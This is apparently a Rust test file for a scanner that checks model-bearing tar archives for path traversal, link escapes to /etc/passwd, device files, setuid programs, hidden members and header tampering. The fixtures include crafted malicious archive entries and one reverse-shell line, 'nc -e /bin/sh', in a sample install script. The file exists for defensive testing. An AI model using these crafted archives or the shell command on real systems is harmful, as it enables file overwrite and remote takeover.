use weighbridge_types::Verdict;

use crate::codec::tar::samples::{archive, entry, file, header, model, record};
use crate::core::testing::{inspect_bytes, rules, survives_damage, verdict};

#[test]
fn a_tar_with_a_model_holds_one_and_is_clean() {
    let outcome = inspect_bytes("a.tar", &archive(&[file("m.nemo", &model()), file("README", b"hello")]));
    assert!(outcome.is_model);
    assert_eq!(outcome.format, Some("tar"));
    assert_eq!(outcome.findings, []);
}

#[test]
fn source_archives_yield_nothing() {
    let source = archive(&[
        file("src/main.c", b"int main;\n"),
        file("src/install.sh", b"#!/bin/sh\nnc -e /bin/sh h 1\n"),
        entry("src/config.sub", b'2', b"", "config/config.sub"),
        entry("src/link", b'1', b"", "src/main.c"),
    ]);
    let outcome = inspect_bytes("src.tar", &source);
    assert!(!outcome.is_model);
    assert_eq!(outcome.findings, []);
}

#[test]
fn what_leads_out_is_malicious() {
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("archive-path-traversal", archive(&[file("../../x", b"x")])),
        ("archive-path-traversal", archive(&[file("/etc/cron.d/x", b"x")])),
        ("archive-link-escape", archive(&[entry("w", b'2', b"", "../../etc/passwd")])),
        ("archive-link-escape", archive(&[entry("w", b'1', b"", "/etc/passwd")])),
        ("archive-write-through-link", archive(&[entry("d", b'2', b"", "/tmp"), file("d/x", b"x")])),
    ];
    for (rule, sample) in cases {
        let outcome = inspect_bytes("a.tar", &sample);
        assert!(rules(&outcome).contains(&rule), "{rule}: {:?}", outcome.findings);
        assert_eq!(verdict(&outcome), Verdict::Malicious);
    }
    let pax = entry("p", b'x', record("path", "../../x").as_bytes(), "");
    assert_eq!(verdict(&inspect_bytes("a.tar", &archive(&[pax, file("x", b"x")]))), Verdict::Malicious);
}

#[test]
fn devices_and_setuid_programs_are_suspicious() {
    for sample in
        [header("null", b'3', 0, "", 0o666), header("pipe", b'6', 0, "", 0o666), header("su", b'0', 0, "", 0o4755)]
    {
        assert_eq!(verdict(&inspect_bytes("a.tar", &archive(&[sample.to_vec()]))), Verdict::Suspicious);
    }
}

#[test]
fn file_system_layers_may_hold_links_devices_and_setuid_programs() {
    let layer = archive(&[
        file("etc/passwd", b"root"),
        file("var/log/.wh.old", b""),
        entry("etc/alternatives/x", b'2', b"", "/usr/bin/y"),
        header("usr/bin/su", b'0', 0, "", 0o4755).to_vec(),
        header("dev/null", b'3', 0, "", 0o666).to_vec(),
        file("usr/share/m.nemo", &model()),
        file("usr/bin/run", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"),
    ]);
    let outcome = inspect_bytes("layer", &layer);
    assert!(outcome.is_model);
    assert_eq!(outcome.findings, []);
}

#[test]
fn programs_beside_a_model_are_suspicious() {
    let outcome = inspect_bytes("a.tar", &archive(&[file("run.sh", b"#!/bin/sh\n"), file("m.nemo", &model())]));
    assert_eq!((verdict(&outcome), rules(&outcome)), (Verdict::Suspicious, vec!["executable-in-model-archive"]));
}

#[test]
fn models_after_the_end_are_found() {
    let sample = [archive(&[file("a", b"1")]), archive(&[file("m.nemo", &model())])].concat();
    let outcome = inspect_bytes("a.tar", &sample);
    assert!(outcome.is_model && rules(&outcome).contains(&"tar-hidden-member"));
}

#[test]
fn a_wrong_checksum_hides_nothing() {
    let mut sample = archive(&[file("m.nemo", &model())]);
    sample[148..156].copy_from_slice(b"0000000\0");
    let outcome = inspect_bytes("a.tar", &sample);
    assert!(outcome.is_model);
    assert!(rules(&outcome).contains(&"tar-header-damaged"), "{:?}", outcome.findings);
}

#[test]
fn two_sizes_are_suspicious() {
    let pax = entry("p", b'x', record("size", "512").as_bytes(), "");
    let mut sized = file("a", &[7; 512]);
    sized[124..136].copy_from_slice(b"00000000012\0");
    let block: [u8; 512] = sized[..512].try_into().unwrap();
    sized[..512].copy_from_slice(&crate::codec::tar::samples::sealed(block));
    let outcome = inspect_bytes("a.tar", &archive(&[pax, sized, file("m.nemo", &model())]));
    assert!(rules(&outcome).contains(&"tar-size-mismatch"), "{:?}", outcome.findings);
}

#[test]
fn damage_is_survived() {
    let pax = entry("p", b'x', record("path", "long/name").as_bytes(), "");
    let sample = archive(&[pax, file("x", b"x"), file("run.sh", b"#!/bin/sh\n"), file("m.nemo", &model())]);
    survives_damage("a.tar", &sample);
}
